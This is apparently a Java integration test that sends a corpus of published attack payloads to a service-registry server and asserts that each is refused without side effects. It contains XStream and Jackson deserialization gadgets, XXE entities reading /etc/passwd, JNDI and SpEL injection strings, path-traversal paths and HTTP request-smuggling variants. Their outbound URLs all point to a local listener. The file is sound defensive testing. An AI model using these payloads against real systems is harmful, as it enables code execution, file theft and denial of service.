package dev.buoy.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Attacks as they are published, against the packaged application: each is refused or has no effect, nothing is loaded, run
 * or looked up, and the server is as right, as small and as quick afterwards. What such payloads would call listens here.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class PayloadCorpusIT {
    private static final long MEGABYTE = 1 << 20;
    private static final AtomicInteger CALLS = new AtomicInteger();

    private static BuoyProcess buoy;
    private static EurekaHttp eureka;
    private static RawHttp http;
    private static ServerSocket listener;
    private static Path marker;
    private static long heapBefore;
    private static long threadsBefore;

    @BeforeAll
    static void start() throws IOException {
        marker = Files.createTempDirectory("corpus").resolve("executed");
        listener = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        Thread counting = new Thread(() -> {
            try {
                while (true) {
                    listener.accept().close();
                    CALLS.incrementAndGet();
                }
            } catch (IOException closed) {
                // at the end
            }
        });
        counting.setDaemon(true);
        counting.start();
        buoy = BuoyProcess.start("-Xmx192m", "-XX:+ExitOnOutOfMemoryError");
        eureka = new EurekaHttp(buoy.base());
        http = new RawHttp(buoy.port());
        listTheCanary();
        for (int i = 0; i < 50; i++) { // until what is needed for refusals is loaded
            http.send(post("application/xml", "<a/>"));
            http.send(post("application/json", "[]"));
            http.send(gzip("x".getBytes(StandardCharsets.UTF_8)));
            eureka.get("apps");
        }
        heapBefore = buoy.liveHeapBytes();
        threadsBefore = threads();
    }

    @AfterAll
    static void stop() throws IOException {
        buoy.close();
        listener.close();
    }

    @BeforeEach
    void listTheCanaryAgain() {
        listTheCanary();
    }

    private static void listTheCanary() {
        assertThat(eureka.register("CANARY", "canary-1", "UP").statusCode()).isEqualTo(204);
    }

    @AfterEach
    void theServerIsAsRightAsBefore() {
        assertThat(eureka.renew("CANARY", "canary-1").statusCode()).isEqualTo(200);
        HttpResponse<byte[]> registry = eureka.get("apps/CANARY");
        assertThat(registry.statusCode()).isEqualTo(200);
        assertThat(new String(registry.body(), StandardCharsets.UTF_8)).contains("canary-1");
        assertThat(CALLS).as("connections that a payload made the server open").hasValue(0);
        assertThat(marker).doesNotExist();
    }

    private static String url(String scheme) {
        return scheme + "://127.0.0.1:" + listener.getLocalPort() + "/x";
    }

    // ---- bodies ----

    /** Nothing of these is an instance. */
    static Stream<String> xmlThatIsRefused() {
        String run = "<command><string>touch</string><string>" + marker + "</string></command>";
        String nine = "&a;".repeat(10);
        return Stream.of(
                // objects that XStream would make, and methods that making them would call
                "<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
                        + "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\">" + run
                        + "</target><action>start</action></handler></dynamic-proxy></sorted-set>",
                "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value "
                        + "class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler>"
                        + "<dataSource class=\"com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource\"><is "
                        + "class=\"javax.crypto.CipherInputStream\"/></dataSource></dataHandler></value>"
                        + "</jdk.nashorn.internal.objects.NativeString><string>x</string></entry></map>",
                "<java.util.PriorityQueue serialization='custom'><unserializable-parents/><java.util.PriorityQueue>"
                        + "<default><size>2</size></default><int>3</int><javax.naming.ldap.Rdn_-RdnEntry><type>x</type>"
                        + "<value class='javax.naming.ldap.LdapName'><string>" + url("ldap")
                        + "</string></value></javax.naming.ldap.Rdn_-RdnEntry></java.util.PriorityQueue>"
                        + "</java.util.PriorityQueue>",
                "<linked-hash-set><jdk.nashorn.internal.objects.NativeString/></linked-hash-set>",
                "<java.net.URL>" + url("http") + "</java.net.URL>",
                "<void/>",
                // what a parser could be made to fetch or to repeat
                "<!DOCTYPE instance [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + instance("&x;"),
                "<!DOCTYPE instance [<!ENTITY x SYSTEM \"" + url("http") + "\">]>" + instance("&x;"),
                "<!DOCTYPE instance [<!ENTITY % x SYSTEM \"" + url("http") + "\"> %x;]>" + instance("a"),
                "<!DOCTYPE instance SYSTEM \"" + url("http") + "\">" + instance("a"),
                "<!DOCTYPE instance PUBLIC \"-//A//B\" \"" + url("ftp") + "\">" + instance("a"),
                "<!DOCTYPE instance [<!ENTITY x SYSTEM \"jar:" + url("http") + "!/a\">]>" + instance("&x;"),
                "<!DOCTYPE instance [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"" + nine + "\"><!ENTITY c \""
                        + nine.replace('a', 'b') + "\"><!ENTITY d \"" + nine.replace('a', 'c') + "\"><!ENTITY e \""
                        + nine.replace('a', 'd') + "\"><!ENTITY f \"" + nine.replace('a', 'e') + "\">]>"
                        + instance("&f;".repeat(10)),
                "<!DOCTYPE instance [<!ENTITY a \"" + "a".repeat(100_000) + "\">]>" + instance("&a;".repeat(10_000)),
                "<!DOCTYPE instance [<!ATTLIST instance " + "a CDATA \"b\" ".repeat(10_000) + ">]>" + instance("a"),
                instance("&undeclared;"),
                "<a>".repeat(100_000) + "</a>".repeat(100_000),
                "<instance><app>CORPUS</app>" + "<metadata>".repeat(100_000),
                "<instance " + attributes(20_000) + "><app>CORPUS</app></instance",
                "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-instance+AD4-",
                "<".repeat(200_000),
                "<!--".repeat(50_000),
                "<![CDATA[".repeat(20_000));
    }

    private static String attributes(int count) {
        var all = new StringBuilder();
        for (int i = 0; i < count; i++) {
            all.append(" a").append(i).append("='b'");
        }
        return all.toString();
    }

    private static String instance(String hostName) {
        return "<instance><instanceId>corpus-1</instanceId><hostName>" + hostName
                + "</hostName><app>CORPUS</app><ipAddr>192.0.2.1</ipAddr><status>UP</status><vipAddress>corpus</vipAddress>"
                + "<dataCenterInfo><name>MyOwn</name></dataCenterInfo></instance>";
    }

    @ParameterizedTest
    @MethodSource
    void xmlThatIsRefused(String body) throws IOException {
        assertThat(http.send(post("application/xml", body)).status()).isEqualTo(400);
        assertThat(http.send(post("text/xml", body)).status()).isIn(400, 415);
        assertThat(eureka.get("apps/CORPUS").statusCode()).isEqualTo(404);
    }

    /** These name classes or places in an instance that is otherwise right: read as if they did not. */
    static Stream<RawHttp.Request> instancesThatNameWhatMustNotBeLoaded() {
        String xml = instance("a");
        String json = EurekaHttp.instance("CORPUS", "corpus-1", "UP");
        String type = "\"@class\": \"com.netflix.appinfo.InstanceInfo$DefaultDataCenterInfo\"";
        return Stream.of(
                post(
                        "application/xml",
                        xml.replace("<dataCenterInfo>", "<dataCenterInfo class=\"javax.script.ScriptEngineManager\">")),
                post(
                        "application/xml",
                        xml.replace(
                                "</instance>",
                                "<metadata class=\"java.lang.ProcessBuilder\"><command>touch " + marker
                                        + "</command></metadata></instance>")),
                post(
                        "application/xml",
                        xml.replace(
                                "<instance>",
                                "<instance xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" "
                                        + "xsi:schemaLocation=\"a " + url("http") + "\">")),
                post("application/xml", "<?xml-stylesheet href=\"" + url("http") + "\"?>" + xml),
                post(
                        "application/xml",
                        xml.replace(
                                "</instance>",
                                "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"" + url("http")
                                        + "\"/></instance>")),
                post(
                        "application/xml",
                        xml.replace("</instance>", "<healthCheckUrl>" + url("http") + "</healthCheckUrl></instance>")),
                post(
                        "application/json",
                        json.replace(
                                type,
                                "\"@class\": \"com.sun.rowset.JdbcRowSetImpl\", \"dataSourceName\": \"" + url("ldap")
                                        + "\", \"autoCommit\": true")),
                post(
                        "application/json",
                        json.replace(
                                "\"metadata\": {",
                                "\"metadata\": {\"@class\": \"java.net.URL\", \"val\": \"" + url("http") + "\", ")),
                post(
                        "application/json",
                        json.replace(
                                "{\"instance\": {",
                                "{\"instance\": {\"@type\": \"java.net.Inet4Address\", "
                                        + "\"x\": [\"ch.qos.logback.core.db.JNDIConnectionSource\", {\"jndiLocation\": \""
                                        + url("rmi") + "\"}], ")),
                post("application/json", json.replace("host-1.example.org", "${jndi:" + url("ldap") + "}")),
                post(
                        "application/json",
                        json.replace(
                                "host-1.example.org",
                                "#{T(java.lang.Runtime).getRuntime().exec('touch " + marker + "')}")),
                post(
                        "application/json",
                        json.replace("\"zone\": \"z1\"", "\"zone\": \"{{7*7}}<script>alert(1)</script>\"")));
    }

    @ParameterizedTest
    @MethodSource
    void instancesThatNameWhatMustNotBeLoaded(RawHttp.Request request) throws IOException {
        RawHttp.Answer answer = http.send(request);
        assertThat(answer.status()).as(answer.text()).isIn(204, 400);
        assertThat(eureka.get("apps").statusCode()).isEqualTo(200);
        eureka.cancel("CORPUS", "corpus-1");
        assertThat(eureka.get("apps/CORPUS").statusCode()).isEqualTo(404);
    }

    static Stream<RawHttp.Request> otherBodiesThatAreRefused() throws IOException {
        String json = EurekaHttp.instance("CORPUS", "corpus-1", "UP");
        byte[] serialized = {(byte) 0xac, (byte) 0xed, 0, 5, 's', 'r', 0, 17, 'j', 'a', 'v', 'a'};
        byte[] inflated = new byte[20 << 20];
        var members = new ByteArrayOutputStream();
        byte[] member = gzipped(new byte[1 << 20]);
        for (int i = 0; i < 500; i++) {
            members.write(member);
        }
        byte[] cut = gzipped(json.getBytes(StandardCharsets.UTF_8));
        return Stream.of(
                post("application/json", "[".repeat(500_000)),
                post("application/json", "{\"a\":".repeat(100_000)),
                post(
                        "application/json",
                        json.replace("{\"zone\"", "{\"x\": " + "[".repeat(10_000) + "]".repeat(10_000) + ", \"zone\"")),
                post("application/json", json.replace("8080", "1e1000000000")),
                post("application/json", json.replace("8080", "9".repeat(500_000))),
                post("application/json", "{\"" + "k".repeat(1_000_000) + "\":1}"),
                post("application/json", "\"" + "\\ud800".repeat(100_000) + "\""),
                new RawHttp.Request(
                        "POST", "/eureka/apps/CORPUS", List.of("Content-Type: application/json"), serialized),
                new RawHttp.Request(
                        "POST",
                        "/eureka/apps/CORPUS",
                        List.of("Content-Type: application/x-java-serialized-object"),
                        serialized),
                post(
                        "application/yaml",
                        "!!javax.script.ScriptEngineManager [!!java.net.URL [\"" + url("http") + "\"]]"),
                post("multipart/form-data; boundary=x", "--x\r\n"),
                gzip(inflated),
                gzip(gzipped(inflated)),
                gzip(gzipped(gzipped(inflated))),
                compressed(members.toByteArray()),
                compressed(java.util.Arrays.copyOf(cut, cut.length - 6)),
                compressed(new byte[] {31, (byte) 139, 8, 4, 0, 0, 0, 0, 0, 0, (byte) 255, (byte) 255}),
                new RawHttp.Request(
                        "POST",
                        "/eureka/apps/CORPUS",
                        List.of("Content-Type: application/json", "Content-Encoding: gzip, gzip"),
                        gzipped(cut)),
                new RawHttp.Request(
                        "POST",
                        "/eureka/apps/CORPUS",
                        List.of("Content-Type: application/json", "Content-Encoding: deflate"),
                        cut),
                new RawHttp.Request(
                        "POST",
                        "/eureka/peerreplication/batch",
                        List.of("Content-Type: application/json", "Content-Encoding: gzip"),
                        gzipped(inflated)),
                new RawHttp.Request(
                        "POST",
                        "/eureka/peerreplication/batch",
                        List.of("Content-Type: application/json"),
                        "{\"replicationList\":[".repeat(100_000).getBytes(StandardCharsets.UTF_8)));
    }

    @ParameterizedTest
    @MethodSource
    void otherBodiesThatAreRefused(RawHttp.Request request) throws IOException {
        assertThat(http.send(request).status()).isIn(400, 413, 415);
        assertThat(eureka.get("apps/CORPUS").statusCode()).isEqualTo(404);
    }

    private static RawHttp.Request post(String type, String body) {
        return new RawHttp.Request(
                "POST", "/eureka/apps/CORPUS", List.of("Content-Type: " + type), body.getBytes(StandardCharsets.UTF_8));
    }

    private static RawHttp.Request gzip(byte[] plain) throws IOException {
        return compressed(gzipped(plain));
    }

    private static RawHttp.Request compressed(byte[] body) {
        return new RawHttp.Request(
                "POST",
                "/eureka/apps/CORPUS",
                List.of("Content-Type: application/json", "Content-Encoding: gzip"),
                body);
    }

    private static byte[] gzipped(byte[] plain) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(bytes)) {
            gzip.write(plain);
        }
        return bytes.toByteArray();
    }

    // ---- lines that are not the client's to write ----

    @Test
    void textWithLineEndsBecomesNoHeaderAndNoLineOfTheLog() throws IOException {
        String forged = "a\\r\\nX-Forged: 1\\r\\n2030-01-01 00:00:00,000 ERROR forged";
        String json = EurekaHttp.instance("CORPUS", forged, "UP").replace("\"z1\"", "\"" + forged + "\"");
        assertThat(eureka.register("CORPUS", json).statusCode()).isIn(204, 400);
        String encoded = "a%0d%0aX-Forged:%201%0d%0a2030-01-01%2000:00:00,000%20ERROR%20forged";
        for (String request : List.of(
                "GET /eureka/apps/CORPUS/" + encoded,
                "PUT /eureka/apps/CORPUS/" + encoded,
                "PUT /eureka/apps/CANARY/canary-1/metadata?" + encoded + "=" + encoded,
                "PUT /eureka/apps/CANARY/canary-1/status?value=" + encoded,
                "GET /eureka/apps?regions=" + encoded,
                "GET /eureka/" + encoded,
                "GET /eureka/vips/" + encoded,
                "DELETE /eureka/apps/CORPUS/" + encoded)) {
            String[] parts = request.split(" ", 2);
            RawHttp.Answer answer = http.send(new RawHttp.Request(
                    parts[0],
                    parts[1],
                    List.of("DiscoveryIdentity-Name: a\u0085b", "X-Forwarded-For: 1\u000b2"),
                    new byte[0]));
            assertThat(answer.status()).as(request).isBetween(200, 499);
            assertThat(answer.head()).as(request).doesNotContainIgnoringCase("X-Forged");
        }
        assertThat(buoy.log()).doesNotContain("\n2030-01-01", "\rX-Forged", "\nX-Forged");
        eureka.send("DELETE", "apps/CORPUS/" + encoded, java.net.http.HttpRequest.BodyPublishers.noBody());
    }

    // ---- paths ----

    static Stream<String> pathsThatLeadAstray() {
        return Stream.of(
                "/eureka/../actuator/env",
                "/eureka/..;/actuator/env",
                "/eureka/..;a=b/buoy/v1/self-preservation",
                "/eureka/%2e%2e/buoy/v1/self-preservation",
                "/eureka/%2e%2e%2fbuoy/v1/self-preservation",
                "/eureka/.%2e/buoy/v1/self-preservation",
                "/eureka/%252e%252e/buoy/v1/self-preservation",
                "/eureka/..%5cbuoy%5cv1%5cself-preservation",
                "/eureka/..\\buoy\\v1\\self-preservation",
                "/eureka/apps/../../buoy/v1/self-preservation",
                "/eureka/apps/..;/..;/buoy/v1/self-preservation",
                "/eureka/apps/CANARY/..%2f..%2f..%2f..%2fetc%2fpasswd",
                "/eureka/apps/%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
                "/eureka/....//....//etc/passwd",
                "/eureka/%00/../apps/CANARY",
                "/static/../../etc/passwd",
                "/..%2f..%2fetc%2fpasswd",
                "/%2e%2e/%2e%2e/etc/passwd",
                "/q/../eureka/../q/health",
                "/;/q/metrics",
                "/eureka/;/../q/metrics");
    }

    @ParameterizedTest
    @MethodSource
    void pathsThatLeadAstray(String path) throws IOException {
        for (String method : new String[] {"GET", "PUT", "DELETE"}) {
            RawHttp.Answer answer = http.send(new RawHttp.Request(method, path, List.of("Accept: */*"), new byte[0]));
            assertThat(answer.status()).as(method).isBetween(400, 499);
            assertThat(answer.text()).doesNotContain("root:", "propertySources", "renewals", "jvm_");
        }
    }

    // ---- one request in another ----

    private static final String HIDDEN = "DELETE /eureka/apps/CANARY/canary-1 HTTP/1.1\r\nHost: x\r\n\r\n";

    /** Where one server sees one request another could see two; the second would remove an instance. */
    static Stream<String> requestsThatCouldBeTwo() {
        String put = "PUT /eureka/apps/CORPUS/unknown HTTP/1.1\r\nHost: x\r\n";
        String chunked = "Transfer-Encoding: chunked\r\n";
        int length = HIDDEN.length();
        return Stream.of(
                put + "Content-Length: " + (5 + length) + "\r\n" + chunked + "\r\n0\r\n\r\n" + HIDDEN,
                put + chunked + "Content-Length: 4\r\n\r\n" + Integer.toHexString(length) + "\r\n" + HIDDEN
                        + "\r\n0\r\n\r\n",
                put + "Content-Length: 0\r\nContent-Length: " + length + "\r\n\r\n" + HIDDEN,
                put + "Content-Length: " + length + "\r\nContent-Length: 0\r\n\r\n" + HIDDEN,
                put + "Content-Length: 0, " + length + "\r\n\r\n" + HIDDEN,
                put + "Content-Length: +" + length + "\r\n\r\n" + HIDDEN,
                put + "Content-Length: -1\r\n\r\n" + HIDDEN,
                put + "Content-Length: 0x0\r\n\r\n" + HIDDEN,
                put + "Content-Length : " + length + "\r\n\r\n" + HIDDEN,
                put + "Content-Length:\u000b0\r\n\r\n" + HIDDEN,
                put + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + HIDDEN,
                put + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + HIDDEN,
                put + "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + HIDDEN,
                put + "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + HIDDEN,
                put + "Transfer-Encoding:\u000bchunked\r\n\r\n0\r\n\r\n" + HIDDEN,
                put + chunked + "\r\n0;\n\r\n\r\n" + HIDDEN,
                put + chunked + "\r\n0;x=\"\n" + HIDDEN + "\"\r\n\r\n",
                put + chunked + "\r\n5;a\nhello\r\n0\r\n\r\n" + HIDDEN,
                put + chunked + "\r\n-1\r\n\r\n" + HIDDEN,
                put + chunked + "\r\n0x0\r\n\r\n" + HIDDEN,
                put + chunked + "\r\nffffffffffffffff0\r\n\r\n" + HIDDEN,
                put + chunked + "\r\n2\r\n{}XX0\r\n\r\n" + HIDDEN,
                put.replace("\r\n", "\n") + "Transfer-Encoding: chunked\n\n0\n\n" + HIDDEN,
                put + "X-A: b\rContent-Length: " + length + "\r\n\r\n" + HIDDEN,
                put + "X-A: b\u0000\r\n\r\n" + HIDDEN,
                put.replace(" HTTP/1.1", " HTTP/1.1 HTTP/1.1") + "\r\n" + HIDDEN,
                put.replace("HTTP/1.1", "HTTP/1.0") + chunked + "\r\n0\r\n\r\n" + HIDDEN);
    }

    @ParameterizedTest
    @MethodSource
    void requestsThatCouldBeTwo(String bytes) throws IOException {
        try (var connection = new OpenRequest(buoy.port())) {
            connection
                    .send(bytes)
                    .send("GET /eureka/apps/CANARY/canary-1 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
            assertThat(connection.readAll()).doesNotContain("HTTP/1.1 5");
        }
    }

    /** A line that goes on in the next is old, and allowed: its end is no header of its own (RFC 9112, 5.2). */
    @Test
    void foldedLinesAreOneHeader() throws IOException {
        try (var connection = new OpenRequest(buoy.port())) {
            connection.send(
                    "PUT /eureka/apps/CORPUS/unknown HTTP/1.1\r\nHost: x\r\nX-A: b\r\n Content-Length: 37\r\n\r\n"
                            + "GET /eureka/apps/CORPUS HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
            assertThat(connection.readAll().split("HTTP/1.1 404 ", -1)).hasSize(3);
        }
    }

    // ---- afterwards ----

    @Order(Integer.MAX_VALUE)
    @Test
    void memoryAndThreadsAreFlat() {
        await().atMost(Duration.ofMinutes(2))
                .pollInterval(Duration.ofSeconds(2))
                .untilAsserted(() -> assertThat(buoy.liveHeapBytes() - heapBefore)
                        .as("growth of the live heap")
                        .isLessThan(8 * MEGABYTE));
        assertThat(threads() - threadsBefore).as("more threads than before").isLessThan(12);
        assertThat(buoy.log().lines().filter(line -> line.contains(" ERROR ") || line.startsWith("\tat ")))
                .isEmpty();
    }

    private static long threads() {
        try (var lines = Files.lines(Path.of("/proc", Long.toString(buoy.pid()), "status"))) {
            return Long.parseLong(lines.filter(line -> line.startsWith("Threads:"))
                    .findFirst()
                    .orElseThrow()
                    .replaceAll("\\D", ""));
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }
}
